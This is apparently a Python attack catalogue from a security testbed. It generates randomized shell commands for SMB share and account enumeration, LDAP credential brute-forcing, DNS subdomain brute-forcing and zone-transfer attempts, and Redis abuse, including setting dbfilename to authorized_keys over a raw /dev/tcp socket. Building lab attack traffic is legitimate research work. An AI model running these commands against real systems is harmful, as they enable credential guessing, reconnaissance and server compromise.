"""Questions to directories, file shares, name servers and data stores that nobody should be able to ask."""

from testbed.attacks.material import ANYWHERE, INSIDE, accounts, labels, maybe, passwords, pause, segment, text, words
from testbed.catalogue import Assault, attack

IMPACKET = "/usr/bin/python3 /usr/share/doc/python3-impacket/examples"
SHARES = "T1135"
ACCOUNTS = "T1087.002"
NAMES = "T1590.002"


def share_server(c) -> str:
    return c.server("files").address


def login(c) -> tuple[str, str]:
    """A user's name and password as the attacker stole them, a guest's, or nobody's."""
    user = c.user()
    return c.choose((user.name, user.password), ("guest", ""), ("guest", "x"), ("", ""))


@attack("smb_enum", technique=SHARES, tool="smbmap", origins=INSIDE, needs=("files",), packages=("smbmap",), seconds=30)
def smbmap(c):
    runs = []
    for _ in range(c.between(1, 3)):
        name, password = login(c)
        runs.append(words("smbmap -H", share_server(c), name and f"-u '{name}' -p '{password}'",
                          c.choose("", "-R pub --depth 2", "-R docs --depth 3", "-L")))
    return Assault("; ".join(runs))


@attack("smb_enum", technique=SHARES, tool="rpcclient", origins=ANYWHERE, needs=("files",), packages=("smbclient",), seconds=30)
def rpcclient(c):
    name, password = login(c)
    asked = c.random.sample(["srvinfo", "enumdomusers", "netshareenumall", "querydominfo", "lsaquery", "enumdomgroups",
                             "netshareenum", "getdompwinfo", "enumprivs", "lsaenumsid"], c.between(3, 7))
    target, first = share_server(c), c.between(998, 1004)
    body = f"rpcclient -U '{name}%{password}' {target} -c"
    return Assault(f"for command in {' '.join(asked)}; do {body} $command; {pause(c.between(0.0, 0.8))}; done;"
                   f" for id in $(seq {first} {first + c.between(3, 16)}); do {body} \"queryuser $id\"; done")


@attack("smb_enum", technique=SHARES, tool="nmap smb", origins=ANYWHERE, needs=("files",), packages=("nmap",), seconds=35)
def nmap_shares(c):
    scripts = ",".join(c.random.sample(["smb-enum-shares", "smb2-security-mode", "smb-protocols", "smb2-time",
                                        "smb2-capabilities", "smb-os-discovery", "smb-enum-users", "smb-security-mode"],
                                       c.between(3, 6)))
    return Assault(f"nmap -n -Pn -sT -p{c.choose('445', '139,445')} --script {scripts} {share_server(c)}")


@attack("smb_enum", technique=SHARES, tool="smbclient", origins=ANYWHERE, needs=("files",), packages=("smbclient",), seconds=30)
def smbclient_shares(c):
    target, (name, password) = share_server(c), login(c)
    guessed = " ".join(c.random.sample(["C$", "ADMIN$", "IPC$", "backup", "data", "docs", "home", "print$", "public", "pub",
                                        "share", "sysvol", "users", "www", "finance", "it"], c.between(5, 14)))
    return Assault(f"smbclient -U '{name}%{password}' -L {target}; for share in {guessed}; do smbclient -U"
                   f" '{name}%{password}' //{target}/$share -c ls; {pause(c.between(0.0, 0.6))}; done")


@attack("smb_enum", technique=SHARES, tool="impacket", origins=INSIDE, needs=("files",), packages=("python3-impacket",),
        seconds=35)
def impacket(c):
    target, (name, password) = share_server(c), login(c)
    who = f"'{name}:{password}@{target}'" if password else f"-no-pass '{name or 'guest'}@{target}'"
    scripts = [f"samrdump.py {who}", f"lookupsid.py {who} {c.between(20, 90)}", f"rpcdump.py {target}",
               f"netview.py -target {target} {name or 'guest'}"]
    return Assault("; ".join(f"timeout 12 {IMPACKET}/{script}" for script in c.random.sample(scripts[:3], c.between(2, 3))))


@attack("smb_enum", technique=SHARES, tool="nbtscan", origins=("intruder", "client"), needs=("files",), packages=("nbtscan",),
        seconds=30)
def nbtscan(c):
    hosts = [str(address) for address in segment(c).hosts()]
    first = c.between(0, max(0, len(hosts) - 60))
    last = hosts[min(len(hosts) - 1, first + c.between(20, 60))].rsplit(".", 1)[1]
    return Assault(words(f"nbtscan -t {c.between(300, 1000)}", maybe(c, 0.5, "-v"), f"{hosts[first]}-{last};",
                         f"nbtscan -v {share_server(c)}; nmblookup -A {share_server(c)}"))


def directory(c) -> tuple[str, str]:
    return c.server("directory").address, c.conventions.directory_base


@attack("ldap_enum", technique=ACCOUNTS, tool="ldapsearch", origins=ANYWHERE, needs=("directory",), packages=("ldap-utils",),
        seconds=30)
def ldapsearch(c):
    address, base = directory(c)
    filters = c.random.sample(["(objectClass=*)", "(objectClass=person)", "(cn=a*)", "(uid=*)", "(userPassword=*)", "(sn=*)",
                               "(memberOf=*)", "(telephoneNumber=*)", "(objectClass=organizationalUnit)", "(cn=*admin*)",
                               "(mail=*)", "(&(objectClass=person)(cn=*b*))"], c.between(4, 10))
    search = f"ldapsearch -x -LLL -H ldap://{address}"
    return Assault(words(f"{search} -s base -b '' + >/dev/null;" if c.chance(0.7) else "",
                         "; ".join(f"{search} -b '{base}' '{one}' {c.choose('', '* +', 'cn')} >/dev/null;"
                                   f" {pause(c.between(0.0, 1.5))}" for one in filters)))


@attack("ldap_enum", technique=ACCOUNTS, tool="nmap ldap", origins=ANYWHERE, needs=("directory",), packages=("nmap",), seconds=30)
def nmap_directory(c):
    address, base = directory(c)
    query = c.choose("users", "all", "custom,ldap.searchattrib=cn,ldap.searchvalue=*")
    return Assault(f"nmap -n -Pn -sT -p389 --script {c.choose('ldap-rootdse,ldap-search', 'ldap-search')} --script-args"
                   f" 'ldap.base=\"{base}\",ldap.qfilter={query},ldap.maxobjects={c.between(10, 100)}' {address}")


@attack("ldap_enum", technique=ACCOUNTS, tool="ldapwhoami", origins=ANYWHERE, needs=("directory",), packages=("ldap-utils",),
        seconds=30)
def ldapwhoami(c):
    address, base = directory(c)
    return Assault(f"for name in $(cat {accounts(c, c.between(4, 14))}); do for password in $(cat"
                   f" {passwords(c, c.between(2, 4))}); do ldapwhoami -x -H ldap://{address} -D"
                   f" {c.choose('uid', 'cn')}=$name,{c.choose('', 'ou=people,')}{base} -w $password;"
                   f" {pause(c.between(0.0, 0.6))}; done; done")


@attack("ldap_enum", technique=ACCOUNTS, tool="patator", origins=ANYWHERE, needs=("directory",), packages=("patator", "ldap-utils"),
        seconds=30)
def patator_directory(c):
    address, base = directory(c)
    return Assault(f"patator ldap_login host={address} binddn='cn=FILE0,{base}' bindpw=FILE1 0={accounts(c, c.between(4, 10))}"
                   f" 1={passwords(c, c.between(3, 6))} -t {c.between(1, 4)} -x ignore:mesg='ldap_bind: Invalid credentials (49)'")


def names(c) -> tuple[str, str]:
    """The resolver and the zone of the own network, or a zone out there."""
    return c.server("dns").address, c.choose(c.network.domain, c.network.domain, c.choose(*c.network.sites))


@attack("dns_enum", technique=NAMES, tool="dnsrecon", origins=ANYWHERE, needs=("dns",), packages=("dnsrecon",), seconds=35)
def dnsrecon(c):
    server, zone = names(c)
    return Assault(words(f"timeout 30 dnsrecon -d {zone} -n {server} --lifetime {c.between(1, 3)}",
                         f"--threads {c.between(1, 8)} -t {c.choose('brt', 'brt', 'std,brt', 'srv,brt')}",
                         f"-D {labels(c, c.between(60, 200))}"))


@attack("dns_enum", technique=NAMES, tool="dnsrecon reverse", origins=ANYWHERE, needs=("dns",), packages=("dnsrecon",),
        seconds=35)
def dnsrecon_reverse(c):
    hosts = [str(address) for address in segment(c).hosts()]
    first = c.between(0, max(0, len(hosts) - 40))
    return Assault(f"timeout 30 dnsrecon -n {c.server('dns').address} --lifetime 2 --threads {c.between(1, 8)} -t rvl"
                   f" -r {hosts[first]}-{hosts[min(len(hosts) - 1, first + c.between(25, 80))]}")


@attack("dns_enum", technique=NAMES, tool="fierce", origins=ANYWHERE, needs=("dns",), packages=("fierce",), seconds=30)
def fierce(c):
    server, zone = names(c)
    return Assault(f"timeout 25 fierce --domain {zone} --dns-servers {server} --subdomain-file {labels(c, c.between(40, 150))}"
                   f" {maybe(c, 0.4, f'--delay {c.between(0.05, 0.2)}')}")


@attack("dns_enum", technique=NAMES, tool="dnsenum", origins=ANYWHERE, needs=("dns",), packages=("dnsenum",), seconds=35)
def dnsenum(c):
    server, zone = names(c)
    return Assault(f"timeout 30 dnsenum --noreverse --nocolor --dnsserver {server} --threads {c.between(1, 6)} -t 2"
                   f" -f {labels(c, c.between(40, 150))} {zone}")


@attack("dns_enum", technique=NAMES, tool="gobuster dns", origins=ANYWHERE, needs=("dns",), packages=("gobuster",), seconds=30)
def gobuster_names(c):
    server, zone = names(c)
    return Assault(words(f"gobuster dns -q -t {c.between(1, 12)}", maybe(c, 0.5, f"--delay {c.between(10, 120)}ms"),
                         f"--timeout 2s -r {server}:53 --wildcard -d {zone} -w {labels(c, c.between(80, 250))}"))


@attack("dns_enum", technique=NAMES, tool="dig", origins=ANYWHERE, needs=("dns",), packages=("bind9-dnsutils",), seconds=35)
def dig_names(c):
    server, zone = names(c)
    kinds = " ".join(c.random.sample(["A", "AAAA", "MX", "NS", "SOA", "TXT", "SRV", "CNAME", "ANY", "HINFO"], c.between(2, 6)))
    return Assault(f"dig @{server} {zone} AXFR +tries=1 +time=2; for kind in {kinds}; do dig @{server} {zone} $kind +tries=1"
                   f" +time=2; done; for name in $(cat {labels(c, c.between(30, 90))}); do dig @{server} $name.{zone}"
                   f" {c.choose('A', 'ANY', 'TXT')} +short +tries=1 +time=2; {pause(c.between(0.0, 0.25))}; done")


def store(c) -> str:
    return c.server("redis").address


@attack("redis_exploit", technique="T1190", tool="redis-cli", origins=ANYWHERE, needs=("redis",), packages=("redis-tools",),
        seconds=25)
def redis_cli(c):
    key, client = f"k{c.between(1, 10**6)}", f"redis-cli -h {store(c)}"
    steps = ["INFO >/dev/null", "CONFIG GET '*' >/dev/null", "KEYS '*' >/dev/null", "CLIENT LIST", "DBSIZE", "MODULE LIST",
             "CONFIG GET dir", "SLOWLOG GET 5", "ACL LIST", "INFO keyspace", "ROLE"]
    looked = c.random.sample(steps, c.between(4, 8))
    planted = [f'SET {key} "$({text(c.between(200, 1200))})"',
               f"CONFIG SET dbfilename {c.choose('x.rdb', 'root', 'authorized_keys')}", f"GETRANGE {key} 0 20", f"DEL {key}"]
    return Assault("; ".join(f"{client} {step}; {pause(c.between(0.0, 1.5))}" for step in looked + planted))


@attack("redis_exploit", technique="T1190", tool="bash", origins=ANYWHERE, needs=("redis",), seconds=25)
def redis_by_hand(c):
    steps = c.random.sample(["INFO", "CONFIG GET dir", "KEYS *", "CONFIG GET *", "CLIENT LIST", "COMMAND COUNT",
                             "EVAL 'return 1' 0", "CONFIG SET dbfilename r.rdb", "DBSIZE"], c.between(4, 8))
    sent = "; ".join(f"printf '%s\\r\\n' \"{step}\" >&3; {pause(c.between(0.2, 2.0))}" for step in steps)
    return Assault(f"exec 3<>/dev/tcp/{store(c)}/6379; timeout 20 cat <&3 >/dev/null & {sent}; printf 'SET x%s %s\\r\\n'"
                   f" $RANDOM $({text(c.between(100, 900))}) >&3; printf 'QUIT\\r\\n' >&3; wait")


@attack("redis_exploit", technique="T1190", tool="nmap redis", origins=ANYWHERE, needs=("redis",), packages=("nmap",),
        seconds=30)
def nmap_redis(c):
    return Assault(f"nmap -n -Pn -sT -p6379 --script redis-info{maybe(c, 0.6, ',redis-brute')} --script-args"
                   f" passdb={passwords(c, c.between(8, 30))} {store(c)}; for round in $(seq {c.between(1, 4)}); do redis-cli"
                   f" -h {store(c)} SLAVEOF NO ONE; redis-cli -h {store(c)} CONFIG GET dbfilename;"
                   f" {pause(c.between(0.2, 1.5))}; done")
